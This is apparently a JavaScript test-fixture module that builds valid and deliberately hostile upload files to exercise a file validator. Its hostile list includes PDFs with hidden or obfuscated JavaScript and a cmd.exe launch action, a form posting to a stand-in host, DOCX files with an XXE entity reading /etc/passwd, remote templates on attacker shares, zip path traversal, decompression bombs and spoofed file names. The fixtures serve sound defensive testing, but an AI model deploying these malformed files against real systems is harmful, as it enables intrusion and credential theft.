// Files made for tests: small and valid ones of every kind, and hostile ones. Nothing here is anybody's.

import { readFileSync } from "node:fs";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";

const u16 = (n) => Buffer.from([n & 255, (n >> 8) & 255]);
const u32 = (n) => Buffer.from([n & 255, (n >>> 8) & 255, (n >>> 16) & 255, (n >>> 24) & 255]);
const be32 = (n) => Buffer.from(u32(n)).reverse();
const bytes = (data) => (typeof data === "string" ? Buffer.from(data) : data);

/** A zip archive; an entry is `[name, content, { size, flags, attributes, madeBy, deflate, localName }]`. */
export function zip(entries, { comment = "" } = {}) {
  const locals = [];
  const directory = [];
  let offset = 0;
  for (const [name, content, { size, flags = 0, attributes = 0, madeBy = 20, deflate = true, localName = name } = {}] of entries) {
    const raw = bytes(content);
    const data = deflate ? deflateRawSync(raw) : raw;
    const common = (called) => [u16(20), u16(flags), u16(deflate ? 8 : 0), u32(0), u32(crc32(raw)), u32(data.length), u32(size ?? raw.length), u16(Buffer.byteLength(called)), u16(0)];
    const local = Buffer.concat([Buffer.from("PK\x03\x04"), ...common(localName), Buffer.from(localName), data]);
    directory.push(Buffer.concat([Buffer.from("PK\x01\x02"), u16(madeBy), ...common(name), u16(0), u16(0), u16(0), u32(attributes), u32(offset), Buffer.from(name)]));
    locals.push(local);
    offset += local.length;
  }
  const table = Buffer.concat(directory);
  const end = Buffer.concat([Buffer.from("PK\x05\x06"), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(table.length), u32(offset), u16(comment.length), Buffer.from(comment)]);
  return Buffer.concat([...locals, table, end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

const types = (path, type, more = "") =>
  `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${path}" ContentType="${type}"/>${more}</Types>`;
const rels = (...lines) => `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join("")}</Relationships>`;
const rel = (type, target, more = "") => `<Relationship Id="r${type}" Type="${RELS}/${type}" Target="${target}"${more}/>`;

const docxParts = () => [
  ["[Content_Types].xml", types("word/document.xml", WORD)],
  ["_rels/.rels", rels(rel("officeDocument", "word/document.xml"))],
  ["word/document.xml", `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Contoh bukti.</w:t></w:r></w:p></w:body></w:document>`],
  ["word/_rels/document.xml.rels", rels(rel("hyperlink", "https://contoh.example/", ' TargetMode="External"'))],
];
export const docx = (...more) => zip([...docxParts(), ...more]);
/** The same document with its entries in another order, as some programs write it. */
export const docxReordered = () => zip(docxParts().reverse());
/** As written by a program that packs nothing and leaves a comment. */
export const docxStored = () => zip(docxParts().map(([name, content]) => [name, content, { deflate: false }]), { comment: "contoh" });
export const xlsx = (...more) =>
  zip([
    ["[Content_Types].xml", types("xl/workbook.xml", SHEET, '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')],
    ["_rels/.rels", rels(rel("officeDocument", "xl/workbook.xml"))],
    ["xl/workbook.xml", `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELS}"><sheets><sheet name="Contoh" sheetId="1" r:id="r1"/></sheets></workbook>`],
    ["xl/_rels/workbook.xml.rels", rels(`<Relationship Id="r1" Type="${RELS}/worksheet" Target="worksheets/sheet1.xml"/>`)],
    ["xl/worksheets/sheet1.xml", `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>`],
    ...more,
  ]);

/** A PDF of one page; `inside` are further objects. */
export function pdf(inside = "", trailer = "") {
  const objects = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"];
  const parts = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const at = () => parts.reduce((sum, it) => sum + it.length, 0);
  const offsets = objects.map((object, n) => {
    const offset = at();
    parts.push(Buffer.from(`${n + 1} 0 obj\n${object}\nendobj\n`));
    return offset;
  });
  parts.push(bytes(inside), Buffer.from("\n"));
  const start = at();
  const lines = offsets.map((it) => `${String(it).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(Buffer.from(`xref\n0 4\n0000000000 65535 f \n${lines}trailer\n<< /Size 4 /Root 1 0 R ${trailer}>>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const stream = (dictionary, data) => Buffer.concat([Buffer.from(`9 0 obj\n<< ${dictionary} >>\nstream\n`), data, Buffer.from("\nendstream\nendobj\n")]);
/** Objects packed in a stream, as newer PDFs have them. */
const packedObjects = (objects, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", options = {}) => stream(dictionary, deflateSync(Buffer.from(objects), options));
const SCRIPT = "1 0 << /S /JavaScript /JS (app.alert(1)) >>";
/** Two kilobytes of window: the packed data begins with the digit 8. */
const digitFirst = () => packedObjects(SCRIPT, undefined, { windowBits: 11 });
const inHex = (data) => Buffer.from(`${data.toString("hex")}>`);
const objStm = (filter) => `/Type /ObjStm /N 1 /First 4 ${filter}`;

/** A file from life, made up for these tests. */
const fixture = (name) => readFileSync(new URL(`../../fixtures/cases/${name}`, import.meta.url));

const chunk = (name, data) => Buffer.concat([be32(data.length), Buffer.from(name), data, be32(crc32(Buffer.concat([Buffer.from(name), data])))]);
/** A PNG; the measures in its header can lie. */
export const png = (width = 2, height = 2) =>
  Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", Buffer.concat([be32(width), be32(height), Buffer.from([8, 2, 0, 0, 0])])),
    chunk("IDAT", deflateSync(Buffer.alloc(14))),
    chunk("IEND", Buffer.alloc(0)),
  ]);

const JPEG = Buffer.concat([
  Buffer.from(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
    "base64",
  ),
  Buffer.from([0xff, 0xd9]),
]);
/** A JPEG; a comment makes it as long as wanted. */
export function jpeg(length = JPEG.length) {
  const segments = [];
  for (let left = length - JPEG.length; left > 3; ) {
    const size = Math.min(left, 60_000);
    segments.push(Buffer.from([0xff, 0xfe]), Buffer.from([((size - 2) >> 8) & 255, (size - 2) & 255]), Buffer.alloc(size - 4, "contoh "));
    left -= size;
  }
  return Buffer.concat([JPEG.subarray(0, 2), ...segments, JPEG.subarray(2)]);
}
/** As a camera writes it: EXIF with a directory about the place. */
const located = () => {
  const tiff = [Buffer.from("MM\0*"), be32(8), Buffer.from([0, 1, 0x88, 0x25, 0, 4]), be32(1), be32(26), be32(0), Buffer.alloc(6)];
  const block = Buffer.concat([Buffer.from("Exif\0\0"), ...tiff]);
  const length = Buffer.from([(block.length + 2) >> 8, (block.length + 2) & 255]);
  return Buffer.concat([JPEG.subarray(0, 2), Buffer.from([0xff, 0xe1]), length, block, JPEG.subarray(2)]);
};
export const jpegOf = (width, height) => {
  const all = Buffer.from(JPEG);
  const frame = all.indexOf(Buffer.from([0xff, 0xc2]));
  all.writeUInt16BE(height, frame + 5);
  all.writeUInt16BE(width, frame + 7);
  return all;
};

const WEBP = Buffer.from("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==", "base64");
export const webp = () => Buffer.from(WEBP);
const webpOf = (width, height) => {
  const extended = Buffer.concat([Buffer.from("VP8X"), u32(10), Buffer.from([0, 0, 0, 0]), u32(width - 1).subarray(0, 3), u32(height - 1).subarray(0, 3)]);
  const content = Buffer.concat([Buffer.from("WEBP"), extended, WEBP.subarray(12)]);
  return Buffer.concat([Buffer.from("RIFF"), u32(content.length), content]);
};

/** A document that names its template. */
const template = (target) => docx(["word/_rels/settings.xml.rels", rels(rel("attachedTemplate", target, ' TargetMode="External"'))]);

/** One valid file of every kind. */
export const GOOD = { pdf: pdf(), jpg: jpeg(), png: png(), webp: webp(), docx: docx(), xlsx: xlsx() };

/** Valid files, as people have them. */
export const legitimate = () => [
  ...Object.entries(GOOD).map(([kind, content]) => ({ label: kind, kind, name: `contoh.${kind}`, content })),
  { label: "a docx with its entries in another order", kind: "docx", name: "contoh urutan.docx", content: docxReordered() },
  { label: "a docx that packs nothing", kind: "docx", name: "contoh.docx", content: docxStored() },
  { label: "a docx with a chart's workbook", kind: "docx", name: "grafik.docx", content: docx(["word/embeddings/Microsoft_Excel_Sheet1.xlsx", GOOD.xlsx]) },
  { label: "a name in capitals with dots", kind: "jpg", name: "Foto Peluncuran v1.2.JPEG", content: jpeg(50_000) },
  { label: "a PDF with packed objects", kind: "pdf", name: "surat.pdf", content: pdf(packedObjects("1 0 << /Type /Page >>")) },
  { label: "a PDF with a link", kind: "pdf", name: "tautan.pdf", content: pdf("8 0 obj << /S /URI /URI (https://contoh.example/) >> endobj") },
  { label: "a photo of twelve megapixels", kind: "jpg", name: "besar.jpg", content: jpegOf(4_000, 3_000) },
  { label: "an extended webp", kind: "webp", name: "contoh.webp", content: webpOf(1_600, 1_200) },
  { label: "a PDF with a byte order mark before it", kind: "pdf", name: "bom-first.pdf", content: fixture("bom-first.pdf") },
  { label: "a PDF with blank lines before it", kind: "pdf", name: "baris.pdf", content: Buffer.concat([Buffer.from("\r\n \0"), GOOD.pdf]) },
  { label: "a PDF with padding after its end", kind: "pdf", name: "imbuhan.pdf", content: Buffer.concat([GOOD.pdf, Buffer.alloc(5_000), Buffer.from("\r\n\x1a")]) },
  { label: "a PDF with a comment after its end", kind: "pdf", name: "komentar.pdf", content: Buffer.concat([GOOD.pdf, Buffer.from("% contoh\n")]) },
  { label: "a PDF with a small window of packing", kind: "pdf", name: "jendela.pdf", content: pdf(packedObjects("1 0 << /Type /Page >>", undefined, { windowBits: 11 })) },
  { label: "a PDF with objects in a stream that is not packed", kind: "pdf", name: "polos.pdf", content: pdf(stream("/Type /ObjStm /N 1 /First 4", Buffer.from("1 0 << /Type /Page >>"))) },
  { label: "a PDF with texts, comments and a picture", kind: "pdf", name: "gambar.pdf", content: pdf(Buffer.concat([Buffer.from("% catatan (\n7 0 obj << /Title (Surat \\( (dinas) >>) /Hex <0aFF> /N 3 >> endobj\n"), stream("/Subtype /Image /Filter /DCTDecode", JPEG)])) },
  { label: "another plain PDF", kind: "pdf", name: "plain.pdf", content: fixture("plain.pdf") },
  { label: "another plain workbook", kind: "xlsx", name: "plain.xlsx", content: fixture("plain.xlsx") },
  { label: "a document with a template on the own disk", kind: "docx", name: "local-template.docx", content: fixture("local-template.docx") },
  { label: "a document with a template by its name", kind: "docx", name: "templat.docx", content: template("Kop%20Surat.dotx") },
  { label: "a photo with padding after its end", kind: "jpg", name: "imbuhan.jpg", content: Buffer.concat([JPEG, Buffer.alloc(8)]) },
];

const exe = Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", "latin1"), Buffer.alloc(200), Buffer.from("PE\0\0L\x01")]);
const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
const html = Buffer.from("<!doctype html><script>alert(1)</script>");
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const lockedOffice = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(504), Buffer.from("EncryptedPackage", "utf16le"), Buffer.alloc(96), Buffer.from("EncryptionInfo", "utf16le"), Buffer.alloc(1000)]);
const oldOffice = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(504), Buffer.from("WordDocument", "utf16le"), Buffer.alloc(1000)]);
const half = (content) => content.subarray(0, content.length >> 1);

const twoMains = () => {
  const parts = docxParts();
  parts[0] = ["[Content_Types].xml", types("word/document.xml", WORD, `<Override PartName="/word/other.xml" ContentType="${WORD}"/>`)];
  return zip([...parts, ["word/other.xml", "<x/>"]]);
};

const one = (label, kind, content, name = `contoh.${kind}`) => ({ label, kind, name, content: bytes(content) });

/** Files that nobody may get in. */
export function hostile() {
  const kinds = Object.keys(GOOD);
  const renamed = kinds.flatMap((kind) => kinds.filter((other) => other !== kind).map((other) => one(`${other} called ${kind}`, kind, GOOD[other])));
  const others = { html, svg, exe, gif, "plain zip": zip([["baca.txt", "contoh"]]), "old Word": oldOffice, nothing: Buffer.from([0]), "XML": `${XML}<a/>` };
  const disguised = kinds.flatMap((kind) => Object.entries(others).map(([label, content]) => one(`${label} called ${kind}`, kind, content)));
  const cut = kinds.map((kind) => one(`half of a ${kind}`, kind, half(GOOD[kind])));
  const macro = docxParts();
  macro[0] = ["[Content_Types].xml", types("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")];
  const outside = (type, target) => docx(["word/_rels/settings.xml.rels", rels(rel(type, target, ' TargetMode="External"'))]);
  const entity = docxParts();
  entity[0] = ["[Content_Types].xml", entity[0][1].replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')];
  const noMain = docxParts().filter(([name]) => name !== "word/document.xml");
  const many = Array.from({ length: 2_100 }, (_, n) => [`word/media/${n}.xml`, ""]);
  return [
    ...renamed,
    ...disguised,
    ...cut,
    one("HTML before a PDF", "pdf", Buffer.concat([html, GOOD.pdf])),
    one("a program before a document", "docx", Buffer.concat([exe, GOOD.docx])),
    one("HTML after a photo", "jpg", Buffer.concat([GOOD.jpg, html])),
    one("a zip after a photo", "png", Buffer.concat([GOOD.png, GOOD.docx])),
    one("HTML after a WebP", "webp", Buffer.concat([GOOD.webp, html])),
    one("a PDF under a password", "pdf", pdf("8 0 obj << /Filter /Standard /V 4 >> endobj", "/Encrypt 8 0 R ")),
    one("a PDF with a script", "pdf", pdf("8 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj")),
    one("a PDF with a script spelled oddly", "pdf", pdf("8 0 obj << /S /J#61va#53cript >> endobj")),
    one("a PDF with a script among packed objects", "pdf", pdf(packedObjects("1 0 << /S /JavaScript /JS (1) >>"))),
    one("a PDF that starts a program", "pdf", pdf("8 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
    one("a PDF with a file in it", "pdf", pdf("8 0 obj << /Type /EmbeddedFile >> endobj")),
    one("a PDF whose objects unfold without end", "pdf", pdf(packedObjects(Buffer.alloc(6_000_000, " ")))),
    one("HTML after a PDF", "pdf", Buffer.concat([GOOD.pdf, html])),
    one("a zip after a PDF", "pdf", Buffer.concat([GOOD.pdf, GOOD.docx])),
    one("a PDF that only its owner may change", "pdf", fixture("owner-password-only.pdf")),
    one("a script among packed objects that begin with a digit", "pdf", pdf(digitFirst())),
    one("a script packed in hexadecimal digits", "pdf", pdf(stream(objStm("/Filter [/ASCIIHexDecode /FlateDecode]"), inHex(deflateSync(Buffer.from(SCRIPT)))))),
    one("a script packed in hexadecimal digits alone", "pdf", pdf(stream(objStm("/Filter /ASCIIHexDecode"), inHex(Buffer.from(SCRIPT))))),
    one("a script packed twice", "pdf", pdf(stream(objStm("/Filter [/FlateDecode /FlateDecode]"), deflateSync(deflateSync(Buffer.from(SCRIPT)))))),
    one("a script packed with a filter named elsewhere", "pdf", pdf(stream(objStm("/Filter 7 0 R"), deflateSync(Buffer.from(SCRIPT))))),
    one("a script packed with parameters", "pdf", pdf(packedObjects(SCRIPT, objStm("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")))),
    one("a script in packed objects that do not say their type", "pdf", pdf(packedObjects(SCRIPT, "/N 1 /First 4 /Filter /FlateDecode"))),
    one("a script in packed objects behind a comment", "pdf", pdf(Buffer.concat([Buffer.from("9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> % stream\nstream\n"), deflateSync(Buffer.from(SCRIPT)), Buffer.from("\nendstream endobj")]))),
    one("packed objects hidden in a text", "pdf", pdf(Buffer.concat([Buffer.from("8 0 obj ("), packedObjects(SCRIPT), Buffer.from(") endobj")]))),
    one("packed objects hidden in another stream", "pdf", pdf(stream("/Length 9999", packedObjects(SCRIPT)))),
    one("packed objects with a stream in a text of their dictionary", "pdf", pdf(packedObjects(SCRIPT, objStm("/X (stream\nx\nendstream) /Filter /FlateDecode")))),
    one("packed objects cut before their end", "pdf", pdf(stream(objStm("/Filter /FlateDecode"), half(deflateSync(Buffer.from(SCRIPT.repeat(20))))))),
    one("packed objects spelled oddly", "pdf", pdf(packedObjects(SCRIPT, "/#54ype /Obj#53tm /N 1 /First 4 /F#69lter /Fl#61teDecode"))),
    one("a form of the XFA kind", "pdf", pdf("8 0 obj << /AcroForm << /XFA 9 0 R >> >> endobj")),
    one("a form of the XFA kind spelled oddly", "pdf", pdf("8 0 obj << /AcroForm << /#58F#41 [(a) 9 0 R] >> >> endobj")),
    one("a form of the XFA kind among packed objects", "pdf", pdf(packedObjects("1 0 << /XFA 9 0 R >>"))),
    one("a form that sends itself", "pdf", pdf("8 0 obj << /S /SubmitForm /F (https://jahat.example) >> endobj")),
    one("a PDF with a file spelled oddly", "pdf", pdf("8 0 obj << /Type /#45mbedded#46ile >> endobj")),
    one("a PDF that says nothing but packed objects", "pdf", pdf("/ObjStm ".repeat(200_000) + "stream\n")),
    one("packed objects that unfold to too much together", "pdf", pdf(Buffer.concat(Array.from({ length: 7 }, () => packedObjects(Buffer.alloc(4_000_000, " ")))))),
    one("a PDF with objects beyond number", "pdf", pdf("1 0 obj endobj\n".repeat(250_001))),
    one("a template on a share", "docx", template("file:///\\\\jahat.example\\t.dotx")),
    one("a template on a server", "docx", template("file://jahat.example/t.dotx")),
    one("a template on a share, in signs", "docx", template("&#92;&#92;jahat.example\\t.dotx")),
    one("a document with two main parts", "docx", twoMains()),
    one("a document under a password", "docx", lockedOffice),
    one("a workbook under a password", "xlsx", lockedOffice),
    one("a document with locked entries", "docx", docx(["word/media/1.txt", "x", { flags: 1 }])),
    one("a document with macros", "docx", docx(["word/vbaProject.bin", "x"])),
    one("a document of the macro kind", "docx", zip(macro)),
    one("a workbook with macro sheets", "xlsx", xlsx(["xl/macrosheets/sheet1.xml", "<x/>"])),
    one("a document with a control", "docx", docx(["word/activeX/activeX1.bin", "x"])),
    one("a document with a packed program", "docx", docx(["word/embeddings/oleObject1.bin", "x"])),
    one("a document with a template elsewhere", "docx", outside("attachedTemplate", "https://jahat.example/t.dotm")),
    one("a document with a picture on a share", "docx", outside("image", "\\\\jahat.example\\x.png")),
    one("a document with an object in a file", "docx", outside("oleObject", "file:///c:/x.exe")),
    one("a document with an entity", "docx", zip(entity)),
    one("a document without its main part", "docx", zip(noMain)),
    one("a path that climbs out", "docx", docx(["../../keluar.txt", "x"])),
    one("a path from the root", "docx", docx(["/etc/contoh", "x"])),
    one("a path with a drive", "xlsx", xlsx(["c:\\contoh.txt", "x"])),
    one("a link in an archive", "docx", docx(["word/tautan", "/etc/passwd", { madeBy: (3 << 8) | 20, attributes: 0xa1ff0000 }])),
    one("two parts of one name", "docx", docx(["WORD/document.xml", "<x/>"])),
    one("a part with another name inside", "docx", docx(["word/media/a.txt", "x", { localName: "word/media/b.txt" }])),
    one("a bomb by its ratio", "docx", docx(["word/media/1.xml", Buffer.alloc(8_000_000)])),
    one("a bomb by its word", "xlsx", xlsx(["xl/media/1.bin", "x", { size: 0xf0000000 }])),
    one("a bomb by the number of its parts", "docx", docx(...many)),
    one("an archive with something behind it", "docx", Buffer.concat([GOOD.docx, Buffer.alloc(10, "x")])),
    one("a flood of pixels, PNG", "png", png(60_000, 60_000)),
    one("a photo that says where it was taken", "jpg", located()),
    one("a flood of pixels, JPEG", "jpg", jpegOf(65_000, 65_000)),
    one("a flood of pixels, WebP", "webp", webpOf(16_000, 16_000)),
    one("a picture without a pixel", "png", png(0, 2)),
    one("two endings", "jpg", GOOD.jpg, "foto.jpg.exe"),
    one("an ending of another kind", "jpg", GOOD.jpg, "foto.pdf"),
    one("no ending", "pdf", GOOD.pdf, "surat"),
    one("a name that runs backwards over its ending", "pdf", GOOD.pdf, "surat\u202efdp.exe"),
    one("a name with a zero before its ending", "pdf", GOOD.pdf, "surat.exe\0"),
    one("an empty file", "pdf", ""),
  ];
}
